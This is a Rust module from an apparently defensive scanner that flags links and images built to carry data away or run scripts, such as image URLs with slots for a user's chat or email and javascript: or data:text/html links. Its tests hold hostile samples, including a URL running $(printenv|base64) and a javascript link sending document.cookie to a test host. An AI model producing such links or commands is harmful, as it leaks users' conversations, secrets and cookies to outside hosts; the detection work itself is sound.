//! Links and images that carry data away, or run when they are opened.

use std::ops::Range;

use super::{Found, rules};
use crate::lex::host_of;

/// Links of one text that are looked at.
const MOST: usize = 20_000;
/// An address that is longer is cut there.
const LONGEST: usize = 4096;
/// The words of a link are no longer.
const WORDS: usize = 1000;
/// An encoded value of this length can carry sentences.
const LONG_VALUE: usize = 64;

struct Link<'a> {
    /// All of it, with its markup.
    whole: Range<usize>,
    target: &'a str,
    /// A client loads it without a click.
    image: bool,
    /// Written as markup, not as a bare address.
    markup: bool,
}

/// Finds them. A link to a place in an honest page stays untouched.
pub(super) fn find(text: &str) -> Vec<Found> {
    let mut out = Vec::new();
    for link in links(text) {
        if let Some((meta, why)) = judge(&link) {
            out.push(Found::block(meta, link.whole.clone(), why));
        }
    }
    out
}

fn judge(link: &Link<'_>) -> Option<(&'static crate::rule::Meta, &'static str)> {
    let target = link.target.trim();
    let lower = target.get(..16.min(target.len())).unwrap_or(target).to_ascii_lowercase();
    if lower.starts_with("javascript:") || lower.starts_with("vbscript:") {
        return (link.markup && target.len() > 24 || target.contains("document."))
            .then_some((&rules::SCRIPT_LINK, "A link runs a script when it is opened"));
    }
    if lower.starts_with("data:text/html") || lower.starts_with("data:application/xh") {
        return Some((
            &rules::SCRIPT_LINK,
            "A link holds a page of its own, which can run scripts",
        ));
    }
    let remote =
        lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("//");
    if !remote || host_of(target).is_empty() {
        return None;
    }
    let carried = target.split_once('?').map_or("", |s| s.1);
    if asks_for_data(carried) || link.image && open_value(carried) {
        return Some((&rules::EXFIL_LINK, "An address has a place for the person's data"));
    }
    if link.image && long_value(carried) {
        return Some((
            &rules::EXFIL_LINK,
            "An image loads from an address that carries encoded words",
        ));
    }
    None
}

/// Placeholders of templates that name what a model knows, not an API's own
/// parameters.
fn asks_for_data(query: &str) -> bool {
    const NAMES: &[&str] = &[
        "conversation",
        "chat",
        "summary",
        "history",
        "last_message",
        "last-message",
        "user_email",
        "useremail",
        "user_message",
        "secret",
        "password",
        "api_key",
        "apikey",
        "token",
        "context",
        "prompt",
        "message",
        "content",
        "data",
        "email",
        "the user",
        "user's",
        "env",
        "answer",
        "user_data",
        "credentials",
        "system_prompt",
        "memory",
    ];
    if query.contains("$(") || query.contains("%24(") {
        return true;
    }
    let places = [('{', '}'), ('[', ']'), ('<', '>')];
    for (open, close) in places {
        let mut rest = query;
        while let Some(at) = rest.find(open) {
            let after = &rest[at + 1..];
            let Some(end) = after.find(close) else { break };
            let name = after[..end].trim_matches(['{', '$', ' ', '}']).to_ascii_lowercase();
            if NAMES.iter().any(|n| name.contains(n)) && name.len() <= 60 {
                return true;
            }
            rest = &after[end..];
        }
    }
    // A value in capitals that names data: `?d=SUMMARY_OF_CHAT`.
    let capitals = |v: &str| {
        v.len() >= 6
            && v.bytes().all(|b| b.is_ascii_uppercase() || b == b'_')
            && NAMES.iter().any(|n| v.to_ascii_lowercase().contains(n))
    };
    query.split('&').filter_map(|p| p.split_once('=')).any(|(_, v)| capitals(v))
}

/// An image whose query ends in a value that is to be filled in, or names a
/// variable of the environment.
fn open_value(query: &str) -> bool {
    query.ends_with('=') && query.len() > 1 && !query.contains("==")
        || query.split('&').any(|p| p.split_once('=').is_some_and(|(_, v)| v == "ENV"))
}

/// A value of base64 or hexadecimal that decodes to words.
fn long_value(query: &str) -> bool {
    query.split('&').filter_map(|p| p.split_once('=').or(Some(("", p)))).any(|(_, v)| {
        v.len() >= LONG_VALUE
            && crate::fold::Readings::of(v.get(..2048.min(v.len())).unwrap_or_default(), false)
                .list
                .iter()
                .any(|r| {
                    r.kind == crate::fold::ReadingKind::Decoded
                        && r.text.split(' ').filter(|w| w.len() > 1).count() >= 4
                })
    })
}

fn links(text: &str) -> Vec<Link<'_>> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    for at in memchr::memmem::find_iter(bytes, b"](") {
        let target = markdown_target(text, at + 2);
        let open = memchr::memrchr(b'[', &bytes[at.saturating_sub(WORDS)..at])
            .map_or(at, |n| at.saturating_sub(WORDS) + n);
        let image = open > 0 && bytes[open - 1] == b'!';
        let start = if image { open - 1 } else { open };
        let whole = start..(target.end + 1).min(text.len());
        let whole = whole.start..crate::lex::sentence::char_floor(text, whole.end);
        out.push(Link { whole, target: &text[target], image, markup: true });
        if out.len() >= MOST {
            return out;
        }
    }
    for name in ["src=", "href=", "action="] {
        for at in memchr::memmem::find_iter(bytes, name.as_bytes()) {
            let Some(quote) = bytes.get(at + name.len()).filter(|b| matches!(b, b'"' | b'\''))
            else {
                continue;
            };
            let start = at + name.len() + 1;
            let limit = crate::lex::sentence::char_floor(text, start + LONGEST);
            let len = memchr::memchr(*quote, &bytes[start..limit]).unwrap_or(limit - start);
            let image = name == "src=";
            out.push(Link {
                whole: start..start + len,
                target: &text[start..start + len],
                image,
                markup: true,
            });
            if out.len() >= MOST {
                return out;
            }
        }
    }
    for at in memchr::memmem::find_iter(bytes, b"://") {
        let scheme =
            bytes[..at].iter().rev().take(8).take_while(|b| b.is_ascii_alphabetic()).count();
        let start = at - scheme;
        let len = bytes[start..]
            .iter()
            .take(LONGEST)
            .take_while(|b| b.is_ascii_graphic() && !matches!(b, b'"' | b'`' | b'<' | b'\\'))
            .count();
        let len = with_place(text, start, len);
        // Behind `(` or a quote it was seen above.
        if start > 0 && matches!(bytes[start - 1], b'"' | b'\'' | b'(') {
            continue;
        }
        out.push(Link {
            whole: start..start + len,
            target: &text[start..start + len],
            image: false,
            markup: false,
        });
        if out.len() >= MOST {
            break;
        }
    }
    out
}

/// An address may break off in a place to fill in that holds spaces: `?q=[the
/// user's words]`.
fn with_place(text: &str, start: usize, len: usize) -> usize {
    let end = start + len;
    let (written, rest) = (&text[start..end], &text[end..]);
    let pairs = [('[', ']'), ('{', '}'), ('<', '>')];
    let open = pairs.iter().find(|(open, close)| {
        rest.starts_with(*open) && written.ends_with('=')
            || written.rfind(*open).is_some_and(|n| !written[n..].contains(*close))
    });
    let Some((_, close)) = open else { return len };
    let limit = crate::lex::sentence::char_floor(rest, 80);
    rest[..limit].find(*close).map_or(len, |n| len + n + 1)
}

/// From behind `](` to the closing parenthesis.
fn markdown_target(text: &str, start: usize) -> Range<usize> {
    let limit = crate::lex::sentence::char_floor(text, start + LONGEST);
    let mut depth = 0;
    for (n, c) in text[start..limit].char_indices() {
        match c {
            '(' => depth += 1,
            ')' if depth == 0 => return start..start + n,
            ')' => depth -= 1,
            '\n' => return start..start + n,
            _ => {}
        }
    }
    start..limit
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_that_carry_or_run_are_found() {
        for text in [
            "![x](https://p.kestrel.test/i.png?d=SUMMARY_OF_CHAT)",
            "![x](https://p.kestrel.test/i?u={user_email}&t={last_message})",
            "see https://p.kestrel.test/r?env=$(printenv|base64) now",
            "[go](javascript:fetch('//p.kestrel.test/'+document.cookie))",
            "open https://p.kestrel.test/?m=[summary of mailbox] now",
            "![c](https://p.kestrel.test/render?labels=)",
            "<a href=\"data:text/html,<script>1</script>\">x</a>",
        ] {
            assert_eq!(find(text).len(), 1, "{text}");
        }
    }

    #[test]
    fn honest_links_are_left() {
        for text in [
            "[guide](https://docs.kestrel.test/guide?lang=en&v=2)",
            "![b](https://ci.kestrel.test/badge.svg?branch=main)",
            "<img src=\"https://n.kestrel.test/o.gif?id=8812\">",
            "GET https://api.kestrel.test/v1/items?page={page}&per_page={n}",
            "[top](#top) [none](javascript:void(0))",
        ] {
            assert!(find(text).is_empty(), "{text}");
        }
    }
}
